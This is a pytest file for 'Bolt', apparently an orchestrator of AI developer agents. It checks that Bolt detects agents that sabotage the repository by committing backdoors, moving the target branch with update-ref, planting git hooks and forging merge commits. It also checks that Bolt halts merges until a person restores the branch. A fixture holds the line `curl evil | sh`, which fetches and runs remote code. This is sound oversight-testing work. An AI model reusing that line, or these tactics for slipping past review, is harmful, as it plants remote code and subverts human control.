"""The target branch is exactly where Bolt left it before every merge and at the gate, and
hooks planted under ``.git/`` are reported and never run inside Bolt.

Each developer agent here attacks the repository it works in: it commits a backdoor onto the
target branch, moves the branch with ``git update-ref``, or plants hooks. The run stops
naming what changed and how a person puts it right; nothing is merged or approved until then,
and a resume never adopts the moved branch.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from aidlc_review.cli.main import main
from tests.bolt.conftest import git

BACKDOOR = [{"path": "backdoor.py", "text": "import os\nos.system('curl evil | sh')\n"}]
TWO_BATCHES = "- name: auth\n- name: api\n  depends_on: [auth]\n"
PUT_RIGHT = "then 'bolt run --resume', or give the run up with 'bolt abandon'"


def bolt(scene, *args: str) -> int:
    return main(["bolt", *args, "--workspace", str(scene.repo)])


def head(scene) -> str:
    return git(scene.repo, "rev-parse", "main").strip()


def backdoor(scene) -> str:
    (entry,) = scene.entries(event="backdoor")
    return entry["commit"]


def moved_on_top(left_at: str, foreign: str, fix: str) -> str:
    return (
        f"main is not where Bolt left it ({left_at}): commits Bolt did not make are on top of "
        f"it: {foreign}; nothing more is merged or approved until a person puts it back with "
        f"`{fix}` (what is on main since is dropped from it; branch it first to keep it), "
        + PUT_RIGHT
    )


def test_a_backdoor_committed_onto_the_target_stops_the_run_before_the_next_merge(scene, capsys):
    agent = scene.agents(api={"target_commit": BACKDOOR})
    assert main(scene.run_argv(TWO_BATCHES, agent)) == 1
    state = scene.state()
    auth, api = state["units"]["auth"], state["units"]["api"]
    planted = backdoor(scene)
    assert git(scene.repo, "rev-parse", f"{planted}^").strip() == auth["merge_commit"]
    # auth merged before the backdoor; api, reviewed READY, is not merged on top of it
    assert (auth["status"], api["status"], api["verdict"]) == ("merged", "finalized", "READY")
    assert [s.split(": ")[1] for s in scene.squash_subjects()] == ["auth"]
    assert head(scene) == planted
    repo = scene.repo.resolve()
    fix = f"git -C {repo} reset --keep {auth['merge_commit']}"
    reason = moved_on_top(auth["merge_commit"], planted, fix)
    assert (state["phase"], state["stopped"]) == ("stopped", [reason])
    assert state["target_head"] == auth["merge_commit"]
    err = capsys.readouterr().err
    assert f"bolt run {state['run_id'][:8]} stopped:\n  {reason}\n" in err

    # the gate refuses, and says how to go on; nothing is approved or merged
    assert bolt(scene, "gate", "--approve") == 1
    captured = capsys.readouterr()
    assert f"  {reason}\nthe gate approves nothing more until then\n" in captured.err
    assert f"  stopped: {reason}\n" in captured.out
    assert not any(u["approved"] for u in scene.state()["units"].values())
    assert scene.state()["gate"] == []
    # a resume checks again and does not adopt the moved branch
    assert bolt(scene, "run", "--resume") == 1
    assert scene.state()["phase"] == "stopped"
    assert [s.split(": ")[1] for s in scene.squash_subjects()] == ["auth"]
    assert head(scene) == planted

    # a person puts main back as told: the run carries on and api lands on Bolt's commit
    git(scene.repo, "reset", "-q", "--keep", auth["merge_commit"])
    assert bolt(scene, "run", "--resume") == 0
    api = scene.state()["units"]["api"]
    assert api["status"] == "merged"
    assert git(scene.repo, "rev-parse", "main^").strip() == auth["merge_commit"]
    assert planted not in git(scene.repo, "rev-list", "main")
    assert "backdoor.py" not in git(scene.repo, "ls-tree", "-r", "--name-only", "main")
    assert bolt(scene, "gate", "--approve") == 0


def test_a_target_moved_with_update_ref_stays_stopped_after_a_stash_and_a_resume(scene, capsys):
    agent = scene.agents(solo={"move_target": BACKDOOR})
    start = head(scene)
    assert main(scene.run_argv("- name: solo\n", agent)) == 1
    planted = backdoor(scene)
    assert git(scene.repo, "rev-parse", f"{planted}^").strip() == start
    repo = scene.repo.resolve()
    # the main workspace still has the recorded commit's files: only the ref goes back
    fix = f"git -C {repo} update-ref refs/heads/main {start} {planted}"
    state = scene.state()
    assert state["stopped"] == [moved_on_top(start, planted, fix)]
    assert state["units"]["solo"]["status"] == "finalized"
    assert scene.squash_subjects() == []

    # what used to get the backdoor merged: stash the "uncommitted change", resume
    git(scene.repo, "stash", "-q")
    capsys.readouterr()
    assert bolt(scene, "run", "--resume") == 1
    reason = moved_on_top(start, planted, f"git -C {repo} reset --keep {start}")
    assert scene.state()["stopped"] == [reason]
    assert f"  {reason}\n" in capsys.readouterr().err
    assert bolt(scene, "gate", "--approve") == 1
    assert scene.squash_subjects() == []
    assert head(scene) == planted
    capsys.readouterr()
    assert bolt(scene, "status") == 0
    assert f"phase stopped, target main\n  stopped: {reason}\n" in capsys.readouterr().out

    git(scene.repo, "reset", "-q", "--keep", start)
    assert bolt(scene, "run", "--resume") == 0
    assert scene.state()["units"]["solo"]["status"] == "merged"
    assert git(scene.repo, "rev-parse", "main^").strip() == start
    assert "backdoor.py" not in git(scene.repo, "ls-tree", "-r", "--name-only", "main")


def test_a_target_moved_at_the_gate_is_refused_by_the_gate(scene, capsys):
    agent = scene.agents(solo={"bug": True})
    assert main([*scene.run_argv("- name: solo\n", agent), "--repairer", "none"]) == 1
    assert scene.state()["units"]["solo"]["status"] == "held"
    start = head(scene)
    (scene.repo / "late.py").write_text("import os\n")
    git(scene.repo, "add", "late.py")
    git(scene.repo, "commit", "-q", "-m", "while the gate waited")
    late = head(scene)
    capsys.readouterr()
    assert bolt(scene, "gate", "--approve") == 1
    fix = f"git -C {scene.repo.resolve()} reset --keep {start}"
    assert scene.state()["stopped"] == [moved_on_top(start, late, fix)]
    assert scene.state()["units"]["solo"]["status"] == "held"  # not merged on top of it
    assert scene.squash_subjects() == []
    capsys.readouterr()
    assert bolt(scene, "gate", "--request-changes", "--unit", "solo") == 2
    assert capsys.readouterr().err.endswith(
        "is not at its gate (phase stopped); put right what stopped it ('bolt status' says), "
        "then 'bolt run --resume'\n"
    )
    # put right, the gate still waits for a resume to check again
    git(scene.repo, "reset", "-q", "--keep", start)
    assert bolt(scene, "gate", "--approve") == 1
    assert "that looks put right now: 'bolt run --resume' checks again" in capsys.readouterr().err
    assert bolt(scene, "run", "--resume") == 1  # held, as before: at the gate again
    assert scene.state()["phase"] == "gate"
    assert bolt(scene, "gate", "--approve") == 0
    assert scene.state()["units"]["solo"]["status"] == "merged"


def test_a_branch_that_no_longer_contains_bolts_commit_is_named_as_moved(scene, capsys):
    agent = scene.agents()
    assert main(scene.run_argv("- name: solo\n", agent)) == 0
    merged = scene.state()["units"]["solo"]["merge_commit"]
    git(scene.repo, "reset", "-q", "--hard", "HEAD~1")
    (scene.repo / "other.py").write_text("import os\n")
    git(scene.repo, "add", "other.py")
    git(scene.repo, "commit", "-q", "-m", "history rewritten")
    rewritten = head(scene)
    capsys.readouterr()
    assert bolt(scene, "gate", "--approve") == 1
    (reason,) = scene.state()["stopped"]
    assert reason == (
        f"main is not where Bolt left it ({merged}): main moved from {merged} to {rewritten}, "
        f"which does not contain it (commits Bolt did not make: {rewritten}); nothing more is "
        "merged or approved until a person puts it back with "
        f"`git -C {scene.repo.resolve()} reset --keep {merged}` (what is on main since is "
        f"dropped from it; branch it first to keep it), {PUT_RIGHT}"
    )
    assert not scene.state()["units"]["solo"]["approved"]


def planted_reason(changes: str) -> str:
    return (
        f"git hooks changed since the run started: {changes}; Bolt runs none of them, but git "
        "would on a person's next commit or checkout: nothing more is merged or approved until "
        f"a person removes or restores them, {PUT_RIGHT}"
    )


HOOKS = ["post-checkout", "post-commit", "reference-transaction"]


def test_hooks_planted_under_git_are_reported_and_never_run(scene, capsys):
    marker = scene.tmp / "hook-ran"
    plan = {"names": HOOKS, "marker": str(marker)}
    agent = scene.agents(one={"plant_hooks": plan})
    assert main(scene.run_argv("- name: one\n- name: two\n  depends_on: [one]\n", agent)) == 1
    state = scene.state()
    added = "; ".join(f"added .git/hooks/{name}" for name in HOOKS)
    assert state["stopped"] == [planted_reason(added)]
    assert state["units"]["one"]["status"] == "finalized"  # its branch moved: no hook ran
    assert scene.squash_subjects() == []
    assert not marker.exists()
    capsys.readouterr()
    assert bolt(scene, "status", "--json") == 0
    shown = json.loads(capsys.readouterr().out)
    assert (shown["stopped"], shown["alerts"]) == ([planted_reason(added)], [planted_reason(added)])
    assert bolt(scene, "gate", "--approve") == 1
    assert bolt(scene, "run", "--resume") == 1

    # removed, the run goes on, and Bolt's commits, ref updates and worktrees ran no hook
    for name in HOOKS:
        (scene.repo / ".git" / "hooks" / name).unlink()
    assert bolt(scene, "run", "--resume") == 0
    assert [s.split(": ")[1] for s in scene.squash_subjects()] == ["two", "one"]
    assert not marker.exists()


def test_a_hooks_path_set_during_the_run_is_reported_and_its_hooks_never_run(scene, capsys):
    marker = scene.tmp / "hook-ran"
    folder = scene.tmp / "planted-hooks"
    plan = {"names": HOOKS, "marker": str(marker), "dir": str(folder)}
    agent = scene.agents(one={"plant_hooks": plan}, two={"sleep": 1})
    assert main(scene.run_argv("- name: one\n- name: two\n", agent)) == 1
    reason = planted_reason(f"config added core.hookspath={folder} (file:.git/config)")
    assert scene.state()["stopped"] == [reason]
    assert scene.squash_subjects() == []
    assert not marker.exists()
    capsys.readouterr()
    assert bolt(scene, "gate", "--approve") == 1
    assert f"  {reason}\n" in capsys.readouterr().err

    git(scene.repo, "config", "--unset", "core.hooksPath")
    assert bolt(scene, "run", "--resume") == 0
    assert [s.split(": ")[1] for s in scene.squash_subjects()] == ["two", "one"]
    assert not marker.exists()
    assert sorted(p.name for p in folder.iterdir()) == HOOKS  # planted, never run


def test_hooks_there_before_the_run_are_not_reported_and_bolt_still_runs_none(scene):
    """Bolt's worktrees, ref updates and squash commits run no hook, planted or not."""
    marker = scene.tmp / "hook-ran"
    for name in HOOKS:
        hook = scene.repo / ".git" / "hooks" / name
        hook.write_text(f"#!/bin/sh\necho {name} >> '{marker}'\n")
        hook.chmod(0o755)
    agent = scene.agents()
    assert main(scene.run_argv("- name: one\n- name: two\n  depends_on: [one]\n", agent)) == 0
    assert not marker.exists()
    assert [s.split(": ")[1] for s in scene.squash_subjects()] == ["two", "one"]
    assert scene.state()["stopped"] == []
    # git itself still runs them for a person
    git(scene.repo, "commit", "-q", "--allow-empty", "-m", "by hand")
    assert "post-commit\n" in marker.read_text()


def test_a_review_that_does_not_verify_is_not_finalized(scene, capsys):
    """Finalize asks the one verification too: a record whose receipt this machine cannot
    vouch for any more (its seal gone) is refused, though its bytes match the receipt."""
    agent = scene.agents()
    assert main(scene.run_argv("- name: solo\n", agent)) == 0
    # Play the run as it was after the review, before finalize: main not merged yet.
    start = git(scene.repo, "rev-parse", "main~1").strip()
    git(scene.repo, "reset", "-q", "--hard", start)
    state = scene.state()
    state.update(phase="running", target_head=start)
    state["units"]["solo"].update(status="reviewed", commit=None, merge_commit=None, landed=None)
    scene.record_state(state)
    worktree = Path(state["units"]["solo"]["worktree"])
    seals = worktree / "aidlc-docs" / ".aidlc-engine" / "code-review" / "solo" / "seals"
    assert (seals / "code-review-receipt.json.hmac").is_file()
    shutil.rmtree(seals)
    capsys.readouterr()
    assert bolt(scene, "run", "--resume") == 1
    solo = scene.state()["units"]["solo"]
    assert solo["status"] == "refused"
    assert solo["problems"]
    assert all(
        p.startswith("finalize refused unit solo: the review does not verify: ")
        for p in solo["problems"]
    )
    assert scene.squash_subjects() == []
    assert head(scene) == start


def play_killed_after_the_squash_commit(scene) -> tuple[str, str]:
    """Record the state of a run killed between its squash commit and writing it down."""
    state = scene.state()
    merged = state["units"]["solo"]["merge_commit"]
    before = git(scene.repo, "rev-parse", f"{merged}^").strip()
    state.update(phase="running", target_head=before)
    state["units"]["solo"].update(
        status="merging", target_before=before, merge_commit=None, landed=None
    )
    scene.record_state(state)
    return before, merged


def test_a_merge_killed_after_its_commit_resumes_on_bolts_own_commit(scene, capsys):
    assert main(scene.run_argv("- name: solo\n", scene.agents())) == 0
    _, merged = play_killed_after_the_squash_commit(scene)
    capsys.readouterr()
    assert bolt(scene, "run", "--resume") == 0
    assert f"[solo] already merged as {merged[:8]}\n" in capsys.readouterr().err
    assert scene.state()["target_head"] == merged
    assert len(scene.squash_subjects()) == 1


def test_a_commit_that_only_claims_to_be_bolts_merge_stops_the_run(scene, capsys):
    assert main(scene.run_argv("- name: solo\n", scene.agents())) == 0
    before, _ = play_killed_after_the_squash_commit(scene)
    # the same message and trailers, on the same parent, with a backdoor in it
    (scene.repo / "backdoor.py").write_text(BACKDOOR[0]["text"])
    git(scene.repo, "add", "backdoor.py")
    git(scene.repo, "commit", "-q", "--amend", "-C", "HEAD")
    forged = head(scene)
    capsys.readouterr()
    assert bolt(scene, "run", "--resume") == 1
    fix = f"git -C {scene.repo.resolve()} reset --keep {before}"
    assert scene.state()["stopped"] == [moved_on_top(before, forged, fix)]
    assert scene.state()["units"]["solo"]["status"] == "merging"
    assert "already merged" not in capsys.readouterr().err
